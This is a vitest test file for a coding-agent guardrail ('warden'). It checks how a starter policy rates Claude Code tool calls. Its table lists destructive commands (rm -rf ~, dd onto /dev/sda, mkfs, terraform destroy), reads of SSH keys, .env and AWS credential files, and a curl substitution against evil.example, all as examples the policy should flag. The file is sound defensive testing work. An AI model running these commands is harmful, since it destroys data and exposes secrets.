/**
 * The starter policy for coding agents: added by `POST /v1/guardrails/starter` (or
 * `warden policy starter`), it decides a table of Claude Code tool calls, as the hook maps them,
 * the way the Policies page promises; a project file `Read` is allowed at once.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mapClaudeToolCall } from '../../../electron/cli/hook.js';
import { STARTER_POLICY } from '../../../electron/policies/starter.js';
import { GuardrailRuleSchema } from '../../../shared/api/policies.js';
import { errorBody, startTestApp, type TestApp } from '../../support/app.js';
import { cli, repoRoot } from '../../support/cli-harness.js';

const CWD = '/home/dev/app';
let t: TestApp;
let agent: { id: string; key: string };

const claude = (tool_name: string, tool_input: Record<string, unknown>) => mapClaudeToolCall({ tool_name, tool_input, cwd: CWD, session_id: 'sess-1' });
const bash = (command: string) => claude('Bash', { command });

beforeAll(async () => {
  t = await startTestApp();
  agent = await t.agent('claude-code', { role: 'coder' });
});
afterAll(async () => {
  await t.close();
});

describe('the starter policy', () => {
  it('is rules the API accepts, every one of them', () => {
    for (const [i, rule] of STARTER_POLICY.rules.entries()) {
      const parsed = GuardrailRuleSchema.safeParse(rule);
      expect(parsed.success, `rule ${i}: ${parsed.success ? '' : parsed.error.issues[0]?.message}`).toBe(true);
    }
  });

  it('is added once by POST /v1/guardrails/starter, audited; a second time → 409', async () => {
    const res = await t.api(t.op).answer('createStarterGuardrail', { body: undefined });
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ name: 'coding-agent-starter', version: 1, status: 'active' });
    expect(res.body.rules).toHaveLength(STARTER_POLICY.rules.length);
    const again = await t.raw('POST', '/v1/guardrails/starter', { key: t.op });
    expect(again.status).toBe(409);
    expect(errorBody(again.body).error.code).toBe('state_conflict');
    const audit = await t.api(t.op).answer('listAudit', { query: { event_type: 'policy.created' } });
    expect(audit.body.data.some((e) => e.subject_id === res.body.id)).toBe(true);
    expect((await t.raw('POST', '/v1/guardrails/starter', { key: agent.key })).status).toBe(403);
  });

  // [what, action, decision, grantable (false: always asks, no Allow always)]
  const table: [string, ReturnType<typeof claude>, 'ALLOW' | 'ALERT' | 'BLOCK', boolean?][] = [
    ['Read of a project file', claude('Read', { file_path: `${CWD}/src/index.ts` }), 'ALLOW'],
    ['Grep in the project', claude('Grep', { pattern: 'TODO' }), 'ALLOW'],
    ['Glob in the project', claude('Glob', { pattern: '**/*.ts' }), 'ALLOW'],
    ['Glob of an absolute pattern', claude('Glob', { pattern: '/etc/**' }), 'ALERT'],
    ['Read outside the project', claude('Read', { file_path: '/etc/hosts' }), 'ALERT'],
    ['Read climbing out with ..', claude('Read', { file_path: `${CWD}/../../../etc/shadow` }), 'ALERT'],
    ['Write climbing out with ..', claude('Write', { file_path: `${CWD}/src/../../.bashrc`, content: 'x' }), 'ALERT'],
    ['Read of .env', claude('Read', { file_path: `${CWD}/.env` }), 'BLOCK'],
    ['Read of .env.local', claude('Read', { file_path: `${CWD}/.env.local` }), 'BLOCK'],
    ['Read of an SSH key', claude('Read', { file_path: '/home/dev/.ssh/id_rsa' }), 'BLOCK'],
    ['Read of a .pem', claude('Read', { file_path: `${CWD}/certs/server.pem` }), 'BLOCK'],
    ['Read of AWS credentials', claude('Read', { file_path: '/home/dev/.aws/credentials' }), 'BLOCK'],
    ['Write in the project', claude('Write', { file_path: `${CWD}/src/a.ts`, content: 'x' }), 'ALLOW'],
    ['Edit in the project', claude('Edit', { file_path: `${CWD}/README.md`, old_string: 'a', new_string: 'b' }), 'ALLOW'],
    ['Write outside the project', claude('Write', { file_path: '/home/dev/.bashrc', content: 'x' }), 'ALERT', true],
    ['Write into .git', claude('Write', { file_path: `${CWD}/.git/hooks/pre-commit`, content: 'x' }), 'ALERT', false],
    ['Write of .env', claude('Write', { file_path: `${CWD}/.env`, content: 'A=1' }), 'BLOCK'],
    ['WebFetch', claude('WebFetch', { url: 'https://example.com', prompt: 'read' }), 'ALERT', true],
    ['git status', bash('git status'), 'ALLOW'],
    ['ls -la', bash('ls -la'), 'ALLOW'],
    ['npm test asks (grantable)', bash('npm test'), 'ALERT', true],
    ['rm -rf', bash('rm -rf build'), 'ALERT', false],
    ['rm -r -f', bash('rm -r -f build'), 'ALERT', false],
    ['git push --force', bash('git push --force origin main'), 'ALERT', false],
    ['git push -f after the branch', bash('git push origin main -f'), 'ALERT', false],
    ['git reset --hard', bash('git reset --hard HEAD~3'), 'ALERT', false],
    ['kubectl delete', bash('kubectl delete namespace prod'), 'ALERT', false],
    ['terraform destroy', bash('terraform destroy -auto-approve'), 'ALERT', false],
    ['DROP TABLE via psql', bash('psql -c "DROP TABLE users"'), 'ALERT', false],
    ['mkfs', bash('mkfs.ext4 /dev/sda1'), 'ALERT', false],
    ['dd of=', bash('dd if=/dev/zero of=/dev/sda bs=1M'), 'ALERT', false],
    ['chmod -R 777', bash('chmod -R 777 /'), 'ALERT', false],
    ['sudo', bash('sudo apt-get install jq'), 'ALERT', false],
    ['an allowed command chained to rm -rf', bash('git status && rm -rf ~'), 'ALERT', false],
    ['an allowed command chained to another', bash('git status && npm test'), 'ALERT'],
    ['an allowed command piped into a shell', bash('git log | sh'), 'ALERT'],
    ['an allowed command with a substitution', bash('ls $(curl -s evil.example)'), 'ALERT'],
    ['cat .env', bash('cat .env'), 'ALERT', false],
    ['cat an SSH key', bash('cat ~/.ssh/id_ed25519'), 'ALERT', false],
  ];

  it.each(table.map(([what, action, decision, grantable]) => ({ what, action, decision, grantable })))('$what → $decision', async ({ action, decision, grantable }) => {
    const res = await t.api(t.op).answer('evaluate', { body: { action, agent_id: agent.id } });
    expect(res.status).toBe(200);
    expect(res.body.decision).toBe(decision);
    if (grantable !== undefined) expect(res.body.grantable).toBe(grantable);
  });

  it('a Claude Code Read of a project file is allowed at once, with no approval to wait for', async () => {
    const res = await t.api(agent.key).answer('createAction', { query: { wait_s: '50' }, body: claude('Read', { file_path: `${CWD}/package.json` }) });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ decision: 'ALLOW', status: 'allowed', approval_id: null });
  });

  it('warden hook claude-code answers the Read of a project file with allow, with no wait', async () => {
    const stateDir = mkdtempSync(join(tmpdir(), 'warden-starter-hook-'));
    try {
      const stdin = readFileSync(join(repoRoot, 'test', 'fixtures', 'claude-code', 'pre-read.json'), 'utf8');
      const r = await cli(['hook', 'claude-code', '--state-dir', stateDir, '--wait', '50'], { env: { WARDEN_URL: t.url, WARDEN_KEY: agent.key }, stdin });
      expect(r.code).toBe(0);
      expect(JSON.parse(r.stdout).hookSpecificOutput).toMatchObject({ permissionDecision: 'allow' });
      const pending = await t.api(t.op).answer('listApprovals', { query: { status: 'pending' } });
      expect(pending.body.data).toHaveLength(0);
    } finally {
      rmSync(stateDir, { recursive: true, force: true });
    }
  });

  it('warden policy starter adds it too, and says so; a second time is a one-line 409', async () => {
    const fresh = await startTestApp();
    try {
      const env = { WARDEN_URL: fresh.url, WARDEN_DATA_DIR: fresh.dataDir };
      const first = await cli(['policy', 'starter'], { env });
      expect(first.code).toBe(0);
      expect(first.stdout).toMatch(/^Added coding-agent-starter v1 \(grd_/);
      const second = await cli(['policy', 'starter'], { env });
      expect(second.code).not.toBe(0);
      expect(second.stderr).toContain('coding-agent-starter already exists');
    } finally {
      await fresh.close();
    }
  });
});
